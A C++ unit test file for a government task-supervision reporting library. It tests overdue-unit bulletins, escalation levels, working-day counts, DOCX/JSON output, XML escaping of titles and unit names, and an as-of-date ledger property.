  // 教育: due 09-30, missed 10-08, 督促整改 10-09, 通报批评 10-15, 约谈 10 working days later (10-29).
  int32_t level = -1;
  const BulletinUnit* edu = Find(b->late, kEducation, &level);
  ASSERT_NE(edu, nullptr);
  EXPECT_EQ(level, 3);
  EXPECT_EQ(edu->assignments, 2);
  EXPECT_EQ(edu->completed, 0);
  ASSERT_EQ(edu->tasks.size(), 1u);  // task 4 has no due date: never late
  EXPECT_EQ(edu->tasks[0].task, 1);
  EXPECT_EQ(edu->tasks[0].title, "推进决策公开");
  EXPECT_EQ(edu->tasks[0].due_on, "2021-09-30");
  EXPECT_EQ(edu->tasks[0].level_name, "约谈");
  // 10-08 .. 11-05 on the 2021 calendar: 10-08, 10-09 (a worked Saturday), then four weeks of five.
  EXPECT_EQ(edu->tasks[0].overdue_working_days, 22);
  // 公安: due 10-20, missed 10-21, 督促整改 10-22, 通报批评 10-29.
  const BulletinUnit* police = Find(b->late, kPolice, &level);
  ASSERT_NE(police, nullptr);
  EXPECT_EQ(level, 2);
  EXPECT_EQ(police->tasks[0].overdue_working_days, 12);
  EXPECT_EQ(Find(b->late, kFinance, &level), nullptr);
  // Finished everything on time: 财政 (tasks 1 and 3) and 卫健 (task 2).
  ASSERT_EQ(b->on_time.size(), 2u);
  EXPECT_EQ(b->on_time[0].unit, kHealth < kFinance ? kHealth : kFinance);
  // Silent in 2021-q3: 教育 (tasks 1 and 4) and 公安 (task 2); 卫健 answered a day late.
  const BulletinUnit* edu_silent = Find(b->silent, kEducation, &level);
  ASSERT_NE(edu_silent, nullptr);
  ASSERT_EQ(edu_silent->tasks.size(), 2u);
  EXPECT_EQ(edu_silent->tasks[0].cycle, "2021-q3");
  EXPECT_EQ(edu_silent->tasks[0].due_on, "2021-09-29");
  EXPECT_GE(level, 1) << "the silence climbed the ladder";
  EXPECT_NE(Find(b->silent, kPolice, &level), nullptr);
  EXPECT_EQ(Find(b->silent, kHealth, &level), nullptr);
  EXPECT_EQ(Find(b->silent, kFinance, &level), nullptr);
  EXPECT_EQ(b->silent_units, 2);
  EXPECT_EQ(b->silent_requests, 3);
  ASSERT_EQ(b->answered_late.size(), 1u);
  EXPECT_EQ(b->answered_late[0].unit, kHealth);
  EXPECT_EQ(b->answered_late[0].times, 1);

  // The json carries the same.
  const auto j = BulletinJson(*b);
  EXPECT_NE(j.find("\"title\": \"关于2021年政务公开工作要点分工方案落实情况的通报\""), std::string::npos);
  EXPECT_NE(j.find("\"name\": \"约谈\""), std::string::npos);
  // Before 2021-q3 was due (09-29 itself), nobody is silent yet; the next day the clock found them.
  auto due_day = BulletinAsOf(*engine, kPlan, D("2021-09-29"));
  ASSERT_TRUE(due_day.ok());
  EXPECT_EQ(due_day->silent_units, 0);
  auto next = BulletinAsOf(*engine, kPlan, D("2021-09-30"));
  ASSERT_TRUE(next.ok());
  EXPECT_EQ(next->silent_units, 2);
  EXPECT_EQ(next->late_units, 0);
}

TEST_F(BulletinTest, AnOfficesOwnLadderNamesTheLevels) {
  auto def = workflows::WorkflowDefinition::Default();
  ASSERT_TRUE(def.ok());
  workflows::WorkflowDefinition own = *def;
  own.escalation[0].name = "提醒";
  own.escalation[2].name = "问责约谈";
  auto b = BulletinAsOf(*engine, kPlan, D("2021-11-05"), &own);
  ASSERT_TRUE(b.ok());
  EXPECT_EQ(b->late[0].name, "提醒");
  EXPECT_EQ(b->late[2].name, "问责约谈");
  int32_t level = 0;
  ASSERT_NE(Find(b->late, kEducation, &level), nullptr);
  EXPECT_EQ(Find(b->late, kEducation, &level)->tasks[0].level_name, "问责约谈");
}

TEST_F(BulletinTest, ABulletinBeforeThePlanExistedIsAClearError) {
  auto b = BulletinAsOf(*engine, kPlan, D("2021-08-31"));
  ASSERT_FALSE(b.ok());
  EXPECT_EQ(b.status().code(), Status::Code::kNotFound);
  EXPECT_NE(b.status().message().find("plan p1 did not exist on 2021-08-31"), std::string::npos)
      << b.status().message();
  EXPECT_EQ(BulletinAsOf(*engine, "no-such-plan", D("2021-10-01")).status().code(), Status::Code::kNotFound);
  EXPECT_TRUE(BulletinAsOf(*engine, kPlan, D("2021-09-01")).ok());
}

TEST_F(BulletinTest, TheDocxBodyHasTheSectionsAndIsDeterministic) {
  auto b = BulletinAsOf(*engine, kPlan, D("2021-11-05"));
  ASSERT_TRUE(b.ok());
  const std::string xml = BulletinDocumentXml(*b);
  for (const char* text :
       {"关于2021年政务公开工作要点分工方案落实情况的通报", "截至2021年11月5日", "一、按时完成的单位",
        "二、逾期未完成的单位", "三、未按时报送进度的单位", "四、下一步要求", "（一）通报批评（1个单位）",
        "（二）约谈（1个单位）", "第1项“推进决策公开”（截止2021年9月30日，逾期22个工作日）", "市政府办公室",
        "w:pStyle w:val=\"Heading1\"", "w:pStyle w:val=\"DocTitle\""})
    EXPECT_NE(xml.find(text), std::string::npos) << text;
  EXPECT_EQ(xml.find("{{"), std::string::npos);
  EXPECT_EQ(xml.find("督促整改（"), std::string::npos) << "an empty level gets no heading";
  auto docx = BulletinDocx(*b);
  ASSERT_TRUE(docx.ok()) << docx.status().ToString();
  ASSERT_GT(docx->size(), 1000u);
  EXPECT_EQ(docx->substr(0, 4), std::string("PK\x03\x04", 4));
  EXPECT_EQ(docx->substr(30, 19), "[Content_Types].xml") << "the content types first, as Office writes them";
  for (const char* part : {"word/document.xml", "word/styles.xml", "_rels/.rels", "word/footer1.xml"})
    EXPECT_NE(docx->find(part), std::string::npos) << part;
  auto again = BulletinDocx(*b);
  ASSERT_TRUE(again.ok());
  EXPECT_EQ(*again, *docx);
}

TEST(BulletinEscaping, ATitleOrUnitWithMarkupStillGivesWellFormedXml) {
  EXPECT_EQ(XmlEscape("A&B<C>\"D'"), "A&amp;B&lt;C&gt;&quot;D&apos;");
  EXPECT_EQ(XmlEscape(std::string("x\x01y\x7f\tz", 7)), "xy\x7f\tz");
  EXPECT_EQ(XmlEscape("bad\xff\xfe utf8 中文"), "bad utf8 中文");
  Bulletin b;
  b.plan_id = "p";
  b.plan_title = "<b>方案</b> & \"要点\"\x01";
  b.issuer = "A&B";
  b.as_of = D("2026-12-01");
  BulletinUnit u{"市<局>&所", 2, 0, 1, {BulletinTask{3, "推进]]><x>", "2026-11-20", 7, 1, "督促整改", "", ""}}};
  b.late = {BulletinGroup{1, "督促整改", {u}}};
  b.late_units = 1;
  b.late_assignments = 1;
  b.on_time = {BulletinUnit{"甲&乙", 1, 1, 0, {}}};
  const std::string xml = BulletinDocumentXml(b);
  EXPECT_NE(xml.find("关于&lt;b&gt;方案&lt;/b&gt; &amp; &quot;要点&quot;落实情况的通报"), std::string::npos);
  EXPECT_NE(xml.find("市&lt;局&gt;&amp;所"), std::string::npos);
  EXPECT_NE(xml.find("推进]]&gt;&lt;x&gt;"), std::string::npos);
  EXPECT_NE(xml.find("甲&amp;乙"), std::string::npos);
  for (const char* raw : {"<b>", "<局>", "<x>", "A&B", "\x01"}) EXPECT_EQ(xml.find(raw), std::string::npos) << raw;
  // Every '&' in the document starts an entity.
  for (size_t p = 0; (p = xml.find('&', p)) != std::string::npos; ++p) {
    const std::string rest = xml.substr(p, 6);
    EXPECT_TRUE(rest.rfind("&amp;", 0) == 0 || rest.rfind("&lt;", 0) == 0 || rest.rfind("&gt;", 0) == 0 ||
                rest.rfind("&quot;", 0) == 0 || rest.rfind("&apos;", 0) == 0)
        << rest;
  }
  auto docx = BulletinDocx(b);
  ASSERT_TRUE(docx.ok()) << docx.status().ToString();
  EXPECT_NE(BulletinJson(b).find("市<局>&所"), std::string::npos) << "json keeps the text as it is";
}

// ---- the as-of property ----------------------------------------------------

// The events of `from` effective by `cut`, each stream re-chained (seq and
// hash) so a fresh store takes them: a store that holds only those events.
std::vector<Event> EventsUpTo(const Engine& from, Instant cut) {
  std::vector<Event> out;
  std::map<std::string, std::pair<uint64_t, std::string>> chain;  // stream -> (next seq, last hash)
  EXPECT_TRUE(from.ScanLog(0,
                           [&](uint64_t, const Event& e) {
                             if (e.occurred_at > cut) return true;
                             Event c = e;
                             auto it = chain.find(e.stream);
                             if (it == chain.end())
                               it = chain.emplace(e.stream, std::make_pair(e.stream_seq, std::string())).first;
                             c.stream_seq = it->second.first++;
                             c.prev_hash = it->second.second;
                             EncodeEventWithHash(c);
                             it->second.second = c.hash;
                             out.push_back(std::move(c));
                             return true;
                           })
                  .ok());
  return out;
}

class AsOfPropertyTest : public LedgerTest, public ::testing::WithParamInterface<int> {};

TEST_P(AsOfPropertyTest, TheLedgerAsOfADateEqualsTheLedgerOfTheEventsUpToIt) {
  std::mt19937 rng(static_cast<uint32_t>(GetParam()));
  auto pick = [&](int n) { return static_cast<int>(rng() % static_cast<uint32_t>(n)); };
  Expect(Office(), At("2021-09-01"), SamplePlan(policy->latest_calendar().version()));
  const std::vector<std::pair<int32_t, std::string>> assignments = {{1, kFinance}, {1, kEducation}, {2, kPolice},
                                                                    {2, kHealth},  {3, kFinance},   {4, kEducation}};
  const std::vector<std::string> texts = {"已部署", "推进中", "已完成初稿", "已报审"};
  int accepted = 0;
  for (Date d = D("2021-09-02"); d <= D("2021-12-10"); d = d.AddDays(1)) {
    ASSERT_TRUE(engine->Tick(StartOfDay(d)).ok());
    const int k = pick(4);
    for (int i = 0; i < k; ++i) {
      const auto& [task, unit] = assignments[pick(static_cast<int>(assignments.size()))];
      const Instant at = At(d.ToString(), 9 + i * 2);
      CommandBody body;
      Actor actor = UnitOf(unit);
      switch (pick(10)) {
        case 0:
        case 1:
          body = Accept{task, unit};
          break;
        case 2:
        case 3:
          body = ReportProgress{task,
                                unit,
                                10 * (1 + pick(9)),
                                texts[pick(4)],
                                "",
                                "填报人" + std::to_string(pick(3)),
                                "1380000000" + std::to_string(pick(9))};
          break;
        case 4:
          body = Submit{task, unit, "已完成", ""};
          break;
        case 5:
          actor = Office();
          body = Approve{task, unit, "同意"};
          break;
        case 6:
          actor = Office();
          body = Reject{task, unit, "材料不全"};
          break;
        case 7:
          body = RequestExtension{task, unit, d.AddDays(20 + pick(20)).ToString(), "工作量大"};
          break;
        case 8:
          actor = Office();
          body = GrantExtension{task, unit, d.AddDays(25).ToString()};
          break;
        case 9:  // a review cycle now and then (the bulletin's silent units)
          actor = Office();
          body = StartReviewCycle{"c" + d.ToString(), "", "monthly", d.AddDays(3 + pick(5)).ToString(), ""};
          break;
      }
      Outcome o = Send(actor, at, body);
      accepted += o.status.ok();
    }
  }
  ASSERT_GT(accepted, 10) << "the random script should move the plan";

  std::vector<std::string> days = {"2021-08-31", "2021-09-01", "2021-12-10", "2021-12-31"};
  for (int i = 0; i < 6; ++i) days.push_back(D("2021-09-01").AddDays(pick(100)).ToString());
  int differs_from_last = 0, bulletin_named = 0, bulletin_silent = 0;
  auto last = LedgerAsOf(*engine, kPlan, D("2021-12-31"));
  ASSERT_TRUE(last.ok());
  for (const auto& day : days) {
    const Date d = D(day);
    TempDir other("duban-report-asof");
    auto cut = OpenStore(other.path(), policy);
    ASSERT_TRUE(cut);
    const std::vector<Event> events = EventsUpTo(*engine, EndOfDay(d));
    if (!events.empty()) {
      auto appended = cut->AppendExternal(events);
      ASSERT_TRUE(appended.ok()) << appended.status().ToString();
    }
    auto full = LedgerAsOf(*engine, kPlan, d);
    auto only = LedgerAsOf(*cut, kPlan, d);
    ASSERT_EQ(full.ok(), only.ok()) << day << ": " << full.status().ToString() << " / " << only.status().ToString();
    if (!full.ok()) {
      EXPECT_LT(d, D("2021-09-01")) << full.status().ToString();
      continue;
    }
    EXPECT_EQ(full->rows.size(), only->rows.size()) << day;
    for (size_t r = 0; r < std::min(full->rows.size(), only->rows.size()); ++r)
      EXPECT_EQ(full->rows[r], only->rows[r])
          << day << " row " << r << " task " << full->rows[r].task << " " << full->rows[r].unit;
    EXPECT_TRUE(*full == *only) << day;
    auto rule = workflows::ScorecardRule::Default();
    ASSERT_TRUE(rule.ok());
    auto card_full = ScorecardAsOf(*engine, kPlan, d, *rule);
    auto card_only = ScorecardAsOf(*cut, kPlan, d, *rule);
    ASSERT_TRUE(card_full.ok() && card_only.ok());
    EXPECT_EQ(card_full->units, card_only->units) << day;
    auto bulletin_full = BulletinAsOf(*engine, kPlan, d);
    auto bulletin_only = BulletinAsOf(*cut, kPlan, d);
    ASSERT_TRUE(bulletin_full.ok() && bulletin_only.ok());
    EXPECT_EQ(BulletinJson(*bulletin_full), BulletinJson(*bulletin_only)) << day;
    EXPECT_TRUE(*bulletin_full == *bulletin_only) << day;
    bulletin_named += bulletin_full->late_units + bulletin_full->silent_units;
    bulletin_silent += bulletin_full->silent_units;
    differs_from_last += !(full->rows == last->rows);
  }
  EXPECT_GT(differs_from_last, 0) << "every sampled date gave today's ledger: the property was not exercised";
  EXPECT_GT(bulletin_named, 0) << "no bulletin named a unit: its property was not exercised";
  EXPECT_GT(bulletin_silent, 0) << "no bulletin named a unit silent in a review cycle";
}

INSTANTIATE_TEST_SUITE_P(Seeds, AsOfPropertyTest, ::testing::Values(1, 2, 3, 4, 5, 6, 7, 8));

// A plan imported from a 工作台账 is titled so already: its ledger is not a
// 工作台账工作台账.
TEST(LedgerTitle, IsThePlansTitleAndSaysTaiZhangOnce) {
  EXPECT_EQ(LedgerTitle("2021年政务公开工作要点分工方案"), "2021年政务公开工作要点分工方案工作台账");
  EXPECT_EQ(LedgerTitle("2021年营商环境优化提升工作台账"), "2021年营商环境优化提升工作台账");
  EXPECT_EQ(LedgerTitle("重点任务推进台账"), "重点任务推进台账");
  EXPECT_EQ(LedgerTitle(""), "工作台账");
  Ledger l;
  l.plan_title = "2021年营商环境优化提升工作台账";
  l.as_of = *Date::Parse("2021-10-15");
  EXPECT_NE(LedgerJson(l).find("\"title\": \"2021年营商环境优化提升工作台账\""), std::string::npos) << LedgerJson(l);
}

}  // namespace
}  // namespace duban::reports
